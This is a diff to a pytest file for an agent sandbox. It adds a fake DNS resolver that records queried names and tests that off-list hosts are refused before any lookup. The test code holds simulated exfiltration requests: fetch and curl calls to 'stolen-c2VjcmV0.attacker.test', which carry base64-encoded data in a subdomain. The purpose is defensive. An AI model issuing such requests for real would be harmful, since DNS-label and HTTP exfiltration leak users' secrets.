@@ -161,28 +161,84 @@ def test_allowed_name_reaches_server_with_urllib_http_client_and_curl(box, canar
     canary.assert_untouched(doc)
 
 
+class FakeResolver:
+    """A DNS server on 127.77.0.53:53 that writes down every name it is asked
+    for and answers NXDOMAIN; `wrapper` runs agentbox in a private mount
+    namespace whose /etc/resolv.conf names only this server."""
+    ADDRESS = "127.77.0.53"
+
+    def __init__(self, tmp_path):
+        self.names = []
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.sock.bind((self.ADDRESS, 53))
+        self.sock.settimeout(0.1)
+        self.stop = threading.Event()
+        self.thread = threading.Thread(target=self.serve, daemon=True)
+        self.thread.start()
+        conf = tmp_path / "resolv.conf"
+        conf.write_text(f"nameserver {self.ADDRESS}\noptions timeout:1 attempts:1\n")
+        self.wrapper = ["unshare", "--mount", "--propagation", "private", "sh", "-c",
+                        'mount --bind "$0" /etc/resolv.conf && exec "$@"', str(conf)]
+
+    def serve(self):
+        while not self.stop.is_set():
+            try:
+                q, peer = self.sock.recvfrom(4096)
+            except socket.timeout:
+                continue
+            labels, i = [], 12
+            while i < len(q) and q[i]:
+                labels.append(q[i + 1:i + 1 + q[i]].decode("ascii", "replace"))
+                i += 1 + q[i]
+            self.names.append(".".join(labels).lower())
+            # The question back, flagged a response with NXDOMAIN.
+            self.sock.sendto(q[:2] + bytes([0x81, 0x83]) + q[4:6] + b"\0\0\0\0\0\0" +
+                             q[12:i + 5], peer)
+
+    def close(self):
+        self.stop.set()
+        self.thread.join()
+        self.sock.close()
+
+
+@pytest.fixture
+def resolver(tmp_path):
+    r = FakeResolver(tmp_path)
+    yield r
+    r.close()
+
+
 def test_name_not_on_the_list_gets_403_and_a_violation_and_is_never_resolved(box, canary,
-                                                                              origin):
+                                                                              origin, resolver):
     # other.test is pinned to the origin too: if the proxy let it through, the
-    # origin would see the request.  stolen-*.attacker.test has no answer at
-    # all: the refusal must come before any lookup.
-    doc = run_box(box, "python", *restricted(origin, "api.test:PORT"), "-c", py(FETCH, '''
+    # origin would see the request.  stolen-*.attacker.test must never reach a
+    # resolver (the lookup alone would carry the data out): the host's resolver
+    # is a test server here that notes every name.  lookup-me.test is listed
+    # and not pinned, so it is looked up: the proof that the server hears.
+    doc = run_box(box, "python", *restricted(origin, "api.test:PORT", "lookup-me.test"), "-c",
+                  py(FETCH, '''
         fetch("other", f"http://other.test:{PORT}/x")
         fetch("exfil", "http://stolen-c2VjcmV0.attacker.test/y")
         import subprocess
         p = subprocess.run(["curl", "-sS", "https://stolen-c2VjcmV0.attacker.test/"],
                            capture_output=True)
         print("curl https:", p.returncode, p.stderr.decode().strip())
-    ''', PORT=origin.port), canary=canary)
-    ok(doc, f"other: 403 other.test:{origin.port} is not in allowed_domains\n"
-            "exfil: 403 stolen-c2vjcmv0.attacker.test:80 is not in allowed_domains\n"
-            "curl https: 56 curl: (56) CONNECT tunnel failed, response 403\n")
+        fetch("listed", "http://lookup-me.test/z")
+    ''', PORT=origin.port), canary=canary, wrapper=resolver.wrapper)
+    assert doc["stdout"].startswith(
+        f"other: 403 other.test:{origin.port} is not in allowed_domains\n"
+        "exfil: 403 stolen-c2vjcmv0.attacker.test:80 is not in allowed_domains\n"
+        "curl https: 56 curl: (56) CONNECT tunnel failed, response 403\n"
+        "listed: 50"), brief(doc)
+    assert (doc["status"], doc["_exit"]) == ("success", 0), brief(doc)
+    assert "lookup-me.test" in resolver.names, resolver.names
+    assert [n for n in resolver.names if "attacker" in n or "stolen" in n or
+            n.startswith("other.test")] == [], resolver.names
     assert origin.seen == []
-    assert violations(doc) == [
+    assert violations(doc)[:3] == [
         ("network", f"other.test:{origin.port}", "not in allowed_domains"),
         ("network", "stolen-c2vjcmv0.attacker.test:80", "not in allowed_domains"),
         ("network", "stolen-c2vjcmv0.attacker.test:443", "not in allowed_domains")]
-    assert "refused 3 requests" in doc["message"]
     canary.assert_untouched(doc)
 
 
